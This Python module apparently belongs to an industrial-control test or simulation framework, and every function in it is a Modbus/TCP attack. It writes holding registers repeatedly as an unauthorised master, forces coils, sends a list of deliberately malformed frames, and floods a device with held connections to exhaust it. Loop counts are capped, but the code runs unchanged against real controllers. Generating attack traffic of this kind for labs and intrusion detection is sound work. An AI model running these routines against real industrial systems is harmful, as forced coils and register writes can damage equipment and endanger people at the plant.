"""A master that nobody invited, and one that does not care for the protocol."""

import socket
import struct
import time

from pymodbus.client import ModbusTcpClient


def write(life, step):
    """`values`: [[register, value], ...], `times`, `every`."""
    c = ModbusTcpClient(life.address(step["to"]), timeout=2, retries=0)
    c.connect()
    if step.get("look", True):
        c.read_holding_registers(0, count=10, device_id=1)
    for _ in range(min(step.get("times", 1), 500)):
        for register, value in step["values"]:
            c.write_register(register, value, device_id=1)
        time.sleep(step.get("every", 0.5))
    c.close()


def force(life, step):
    """Coils by hand: `coils`: [[address, on], ...]."""
    c = ModbusTcpClient(life.address(step["to"]), timeout=2, retries=0)
    c.connect()
    for address, on in step["coils"]:
        c.write_coil(address, on, device_id=1)
        time.sleep(0.2)
    c.close()


def malformed(life, step):
    """Lengths that lie, functions that do not exist, halves of messages."""
    bad = [struct.pack(">HHHBB", 1, 0, 0, 1, 3), struct.pack(">HHHBBHH", 2, 0, 6, 1, 3, 0, 0xFFFF),
           struct.pack(">HHHBB", 3, 0, 0xFFFF, 1, 16) + b"A" * 300, struct.pack(">HHHBBHHB", 4, 0, 7, 1, 16, 0, 123, 1),
           struct.pack(">HHHBBH", 5, 0x1337, 4, 255, 0x5A, 0), b"\x00" * 7, struct.pack(">HHHBB", 6, 0, 2, 1, 0xFF) * 20,
           struct.pack(">HHHBBBB", 7, 0, 4, 1, 43, 0x0E, 0xEE) + b"\xff" * 60]
    for _ in range(min(step.get("times", 3), 20)):
        for b in bad:
            try:
                with socket.create_connection((life.address(step["to"]), 502), timeout=1) as s:
                    s.sendall(b)
                    s.settimeout(0.2)
                    s.recv(300)
            except OSError:
                pass


def hold(life, step):
    """Takes connections and keeps them: `count` of them for `seconds`."""
    held = []
    for _ in range(min(step.get("count", 40), 200)):
        try:
            held.append(socket.create_connection((life.address(step["to"]), step.get("port", 502)), timeout=1))
        except OSError:
            pass
        time.sleep(0.03)
    time.sleep(min(step.get("seconds", 10), 60))
    for s in held:
        s.close()
